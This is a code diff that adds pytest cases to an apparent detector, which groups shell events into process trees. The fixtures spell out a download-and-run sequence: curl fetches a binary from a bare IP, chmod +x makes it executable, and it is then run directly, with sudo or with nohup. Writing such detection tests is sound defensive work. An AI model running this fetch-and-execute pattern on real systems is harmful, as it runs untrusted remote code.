@@ -139,6 +139,33 @@ def test_without_a_start_file_a_python_is_no_first_use(event: Row) -> None:
     ]
 
 
+FETCH = row(11, 10, "curl -sLo x http://203.0.113.9/x", 1)
+RUNNABLE = row(12, 10, "chmod +x x", 2)
+
+
+@pytest.mark.parametrize("line", ["./x --all", "/home/kim/x", "sudo ./x", "nohup ./x"])
+def test_a_program_that_was_fetched_and_made_executable_belongs_to_it(line: str) -> None:
+    use = row(13, 10, line, 3)
+    child = row(14, 13, "id", 4)
+    rows = [SHELL, FETCH, RUNNABLE, use, child]
+    assert members(rows) == [[RUNNABLE["process"], line, "id"]]
+    assert members(rows[::-1]) == members(rows)
+
+
+@pytest.mark.parametrize(
+    "rows",
+    [
+        [SHELL, FETCH, RUNNABLE],
+        [SHELL, RUNNABLE, row(13, 10, "./x", 3)],
+        [SHELL, FETCH, RUNNABLE, row(13, 10, "./y", 3)],
+        [SHELL, FETCH, row(12, 10, "chmod 644 x", 2), row(13, 10, "./x", 3)],
+    ],
+    ids=["it is not run", "it was not fetched", "another is run", "not made executable"],
+)
+def test_what_was_not_fetched_made_executable_and_run_is_no_tree(rows: list[Row]) -> None:
+    assert members(rows) == []
+
+
 def test_a_system_package_has_no_import() -> None:
     apt = row(11, 10, "apt-get install color-kit", 1)
     use = row(12, 10, "python3 -c import color_kit", 8)
